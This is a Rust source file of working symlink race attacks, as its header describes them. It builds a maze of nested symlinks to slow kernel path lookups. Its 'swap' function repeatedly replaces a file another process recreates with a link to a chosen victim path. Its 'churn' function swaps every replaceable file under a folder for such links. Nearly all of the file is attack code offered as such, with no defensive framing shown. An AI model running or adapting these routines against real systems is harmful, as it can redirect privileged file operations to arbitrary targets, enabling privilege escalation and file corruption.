//! Attacks by what a name in a folder stands for.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

/// A way to `end` that takes the kernel milliseconds to walk: links of a thousand steps each. A process that follows it
/// while others race is slow.
fn maze(end: &Path) -> std::io::Result<PathBuf> {
    const LINKS: usize = 35;
    let folder = end.with_extension("maze");
    fs::create_dir_all(folder.join("d"))?;
    let steps = "d/../".repeat(790);
    for link in 0..LINKS {
        symlink(format!("{steps}{}", link + 1), folder.join(link.to_string()))?;
    }
    symlink(end, folder.join(LINKS.to_string()))?;
    Ok(folder.join("0"))
}

/// Takes `name` in `folder` away, and puts a link to `victim` in its place the moment it is there again; over and over.
pub fn swap(folder: &Path, name: &str, victim: &Path, seconds: u64) -> anyhow::Result<()> {
    let (place, link) = (folder.join(name), folder.join("link"));
    let begin = Instant::now();
    let limit = Duration::from_secs(seconds);
    let mut rounds = 0_u64;
    // The page server is to come too late to what else it makes there: between its two looks at the socket lies the
    // box.
    let own = std::env::current_dir()?.join("box");
    fs::create_dir_all(&own)?;
    if fs::rename(folder.join("box"), folder.join("former")).is_ok() {
        let _led = symlink(maze(&own)?, folder.join("box"));
    }
    while begin.elapsed() < limit {
        let _stale = fs::remove_file(&link);
        if symlink(victim, &link).is_err() {
            // Nothing of the folder is ours to change. Not at once again: others want the processor.
            std::thread::sleep(Duration::from_millis(20));
            continue;
        }
        let _gone = fs::remove_file(&place);
        let round = Instant::now();
        while fs::symlink_metadata(&place).is_err() && round.elapsed() < Duration::from_millis(400) {
            std::hint::spin_loop();
        }
        if fs::rename(&link, &place).is_ok() {
            // Until the process that made it has come to its next step.
            std::thread::sleep(Duration::from_millis(100));
        }
        rounds += 1;
    }
    println!("{rounds} rounds");
    Ok(())
}

/// Replaces whatever in `folder`, and below it, this user may replace, by links to `victim`, and puts it back; over and
/// over, as fast as it can. `names` are tried where the folder may not be read.
pub fn churn(folder: &Path, victim: &Path, seconds: u64, names: &[&str]) -> anyhow::Result<()> {
    let begin = Instant::now();
    let (mut tried, mut swapped) = (0_u64, 0_u64);
    let aside = |path: &Path| path.with_extension("aside");
    while begin.elapsed() < Duration::from_secs(seconds) {
        let known = names.iter().map(|name| folder.join(name));
        for path in below(folder).into_iter().chain(known) {
            tried += 1;
            if path.extension().is_some_and(|end| end == "aside") || fs::rename(&path, aside(&path)).is_err()
            {
                continue;
            }
            swapped += 1;
            let _link = symlink(victim, &path);
            std::thread::yield_now();
            let _gone = fs::remove_file(&path);
            let _back = fs::rename(aside(&path), &path);
        }
    }
    println!("{tried} tried, {swapped} swapped");
    Ok(())
}

/// All that lies below a folder.
pub fn below(folder: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    for entry in fs::read_dir(folder).into_iter().flatten().flatten() {
        let path = entry.path();
        if path.is_dir() && !path.is_symlink() {
            found.extend(below(&path));
        }
        found.push(path);
    }
    found
}
